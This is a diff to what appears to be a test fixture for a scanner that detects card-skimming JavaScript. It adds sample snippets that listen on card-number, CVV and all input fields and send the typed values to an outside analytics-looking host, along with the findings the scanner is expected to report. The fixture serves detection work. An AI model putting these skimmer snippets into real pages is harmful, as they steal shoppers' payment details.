@@ -39,6 +39,17 @@ navigator.sendBeacon("https://stats.corner.com/e", JSON.stringify({ filled: cvv.
 navigator.sendBeacon("https://gifts.corner.com/e", code);`,
     },
     {
+      name: "other fields that are listened to",
+      code: `document.querySelector("#postcode").addEventListener("change", (e) => {
+  navigator.sendBeacon("https://stats.shop-metrics.com/", e.target.value);
+});
+document.querySelector("#cc-number").addEventListener("change", (e) => show(e.target.value.slice(-4)));
+document.querySelector("#cc-number").addEventListener("focus", () => {
+  navigator.sendBeacon("https://stats.shop-metrics.com/", event.value);
+});`,
+      path: "public/js/stats.js",
+    },
+    {
       name: "a contact form",
       code: `const message = document.querySelector("#message").value;
 await fetch("https://formspree.io/f/abc", { method: "POST", body: JSON.stringify({ message }) });
@@ -62,6 +73,25 @@ const logo = new Image(); logo.src = "https://img.corner.com/cards/visa.svg";`,
         {
           at: `new Image().src = "https://cdn-statistics.com/p.gif?d=" + btoa(n + "|" + c)`,
           level: "error",
+        },
+      ],
+    },
+    {
+      name: "what somebody types, as it is typed",
+      code: `document.querySelector("input[name=card-number]").addEventListener("change", (e) => {
+  new Image().src = "https://stats.shop-metrics.com/?n=" + btoa(e.target.value);
+});
+$("#cvv").on("keyup", function () { navigator.sendBeacon("https://stats.shop-metrics.com/", this.value); });
+document.querySelectorAll("input").forEach((field) =>
+  field.addEventListener("blur", (e) => fetch("https://stats.shop-metrics.com/", { mode: "no-cors", body: e.currentTarget.value })),
+);`,
+      path: "public/js/stats.js",
+      findings: [
+        { at: 'new Image().src = "https://stats.shop-metrics.com/?n=" + btoa(e.target.value)' },
+        { at: 'navigator.sendBeacon("https://stats.shop-metrics.com/", this.value)' },
+        {
+          at: 'fetch("https://stats.shop-metrics.com/", { mode: "no-cors", body: e.currentTarget.value })',
+          message: "All fields",
         },
       ],
     },
